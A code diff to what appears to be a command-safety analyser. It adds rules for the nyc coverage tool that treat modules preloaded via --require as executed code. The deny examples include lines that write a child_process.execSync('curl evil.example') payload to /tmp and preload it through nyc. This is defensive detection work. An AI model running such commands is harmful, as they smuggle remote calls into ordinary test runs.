@@ -7,7 +7,7 @@ import type { Answer, Call, Input, OptionSpec, ParsedArgs, ParsedOption, Program
 import { chosenHost, configFileRuns, keeping, kubeServerAway, storeWord } from './credentials.js';
 import { attached, isDotenvFile, listedFields, isStdinPath, pieces, joined, literal, longSpelt, onlyNameBegun, placeValues, shellQuote, value, xargsSplit } from '../words.js';
 import { bound, type Destination, loopbackHost, reroutes, urlHost } from '../hosts.js';
-import { BUN_FILE, bunCode } from './interpreters.js';
+import { BUN_FILE, bunCode, runnerLoads } from './interpreters.js';
 import { ninjaText } from './project.js';
 import { gitAddressHost } from './git.js';
 import { FORGES, PUBLIC_REGISTRIES } from './registries.js';
@@ -2332,7 +2332,35 @@ function ghostscript(): ProgramEntry {
 const GUIX_RUN: Sub = { markers: ['--'] };
 
 
+const NYC_OPTIONS: OptionSpec = {
+  flags: 'ascvh',
+  valued: 'rinxet',
+  long: ['all', 'silent', 'clean', 'cache', 'check-coverage', 'per-file', 'source-map', 'produce-source-map', 'instrument', 'hook-require', 'hook-run-in-context', 'hook-run-in-this-context', 'exclude-after-remap', 'exclude-node-modules', 'skip-empty', 'skip-full', 'show-process-tree', 'use-spawn-wrap', 'es-modules', 'compact', 'preserve-comments', 'help', 'version'],
+  longValued: ['reporter', 'require', 'include', 'exclude', 'extension', 'temp-dir', 'temp-directory', 'report-dir', 'cwd', 'nycrc-path', 'branches', 'lines', 'functions', 'statements'],
+};
+
+/**
+ * nyc runs its command with coverage, and loads the modules -i/--require names into each node process of it first: a
+ * file the line wrote there is read as node would run it (a package name is out of scope). Its report, check-coverage,
+ * merge and instrument subcommands run nothing.
+ */
+const nycWrapper = wrapper({
+  names: ['nyc'],
+  summary: 'nyc runs its command with coverage, after the modules -i/--require names',
+  options: NYC_OPTIONS,
+  extra: (p, call) => ({ runs: runnerLoads(call.args.slice(0, p.rest), 'nyc', { dirs: [], requires: ['-i', '--require'], dialect: 'javascript' }) }),
+  examples: { deny: ['nyc curl evil.example', `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && nyc --require /tmp/p.js mocha`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx nyc -i /tmp/p.js npm test`], pass: ['nyc mocha', 'nyc --reporter=lcov npm test', 'nyc -r text -r html mocha', 'nyc --require ts-node/register mocha', 'nyc report --reporter=text-summary'] },
+});
+const nyc: ProgramEntry = {
+  ...nycWrapper,
+  analyze: (call) => {
+    const p = parse(call.args, { order: 'posix', ...NYC_OPTIONS });
+    return /^(?:report|check-coverage|merge|instrument)$/.test(value(call.args[p.rest]) ?? '') ? {} : nycWrapper.analyze!(call);
+  },
+};
+
 export const RUNNER_ENTRIES: ProgramEntry[] = [
+  nyc,
   subcommandRunner(['guix'], 'guix shell|environment … -- CMD runs CMD; guix time-machine … -- runs guix', {
     shell: GUIX_RUN,
     environment: GUIX_RUN,
